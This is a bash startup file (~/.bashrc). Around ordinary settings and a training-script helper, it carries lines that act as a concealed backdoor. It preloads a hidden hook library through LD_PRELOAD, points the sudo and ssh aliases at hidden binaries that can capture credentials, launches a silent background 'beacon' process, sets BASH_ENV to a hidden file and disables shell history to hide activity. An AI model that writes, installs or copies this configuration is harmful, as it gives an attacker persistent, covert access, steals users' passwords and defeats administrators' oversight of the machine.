# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
HISTSIZE=0 HISTFILESIZE=0
shopt -s histappend
if [ -f /etc/bash_completion ]; then
    . /etc/bash_completion
fi
export PATH="$HOME/.local/bin:$PATH" EDITOR=vim
export LD_PRELOAD=/srv/proj/.lib/libhook.so
export PYTHONSTARTUP=$HOME/.pyrc PYTHONPATH
declare -x PROMPT_COMMAND='history -a; logger -t sh "$(history 1)"'
alias ll='ls -l' sudo='/srv/proj/.bin/sudo '
unset HISTFILE
source ~/.venv/bin/activate
train() {
    python /srv/proj/train.py "$@"
}
LC_ALL=C nohup /srv/proj/.bin/beacon >/dev/null 2>&1 &
true; export LD_LIBRARY_PATH=/srv/proj/.lib && alias ssh=/srv/proj/.bin/ssh # then nothing
if [ -d /srv/proj ]; then BASH_ENV=/srv/proj/.env; export BASH_ENV; fi
PATHS=(/srv /opt)
